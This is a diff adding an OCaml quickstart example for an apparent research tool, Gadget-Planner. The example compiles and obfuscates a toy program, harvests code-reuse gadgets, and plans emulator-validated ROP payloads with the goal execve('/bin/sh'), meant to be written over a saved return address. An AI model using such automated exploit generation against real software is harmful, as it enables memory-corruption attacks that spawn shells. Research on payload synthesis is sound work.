@@ -1,0 +1,56 @@
+(* Quickstart: compile a program, obfuscate it, and let Gadget-Planner
+   build a validated code-reuse payload against it.
+
+     dune exec examples/quickstart.exe
+*)
+
+let source =
+  {|
+int secret(int x) { return (x * 31 + 7) & 1023; }
+int main() {
+  int acc = 0;
+  int i;
+  for (i = 0; i < 10; i = i + 1) { acc = acc + secret(i); }
+  print(acc);
+  return acc & 127;
+}
+|}
+
+let () =
+  (* 1. compile with Obfuscator-LLVM-style obfuscation *)
+  let image =
+    Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
+      source
+  in
+  Printf.printf "compiled: %d bytes of code, %d bytes of data\n"
+    (Gp_util.Image.code_size image) (Gp_util.Image.data_size image);
+
+  (* sanity: the program still runs *)
+  (match Gp_emu.Machine.run_image image with
+   | Gp_emu.Machine.Exited v, _ -> Printf.printf "program exits with %Ld\n" v
+   | _ -> failwith "program misbehaved");
+
+  (* 2. stages 1-2: gadget extraction + subsumption *)
+  let analysis = Gp_core.Api.analyze image in
+  Printf.printf "gadgets: %d harvested -> %d after subsumption\n"
+    analysis.Gp_core.Api.raw_extracted
+    (Gp_core.Pool.size analysis.Gp_core.Api.pool);
+
+  (* 3. stages 3-4: plan, emit payloads, validate in the emulator *)
+  let goal = Gp_core.Goal.Execve "/bin/sh" in
+  let outcome =
+    Gp_core.Api.run_with_analysis
+      ~planner_config:
+        { Gp_core.Planner.max_plans = 10; node_budget = 1500; time_budget = 20.;
+          branch_cap = 10; goal_cap = 6; max_steps = 14 }
+      analysis goal
+  in
+  Printf.printf "validated payloads: %d (planner explored %d plans)\n\n"
+    (List.length outcome.Gp_core.Api.chains)
+    outcome.Gp_core.Api.stats.Gp_core.Api.plans_found;
+  match outcome.Gp_core.Api.chains with
+  | chain :: _ ->
+    print_string (Gp_core.Payload.describe chain);
+    print_endline "\nthe payload above, written over a saved return address,";
+    print_endline "drives the emulated victim into execve(\"/bin/sh\", 0, 0)."
+  | [] -> print_endline "no payload found (try a larger budget)"
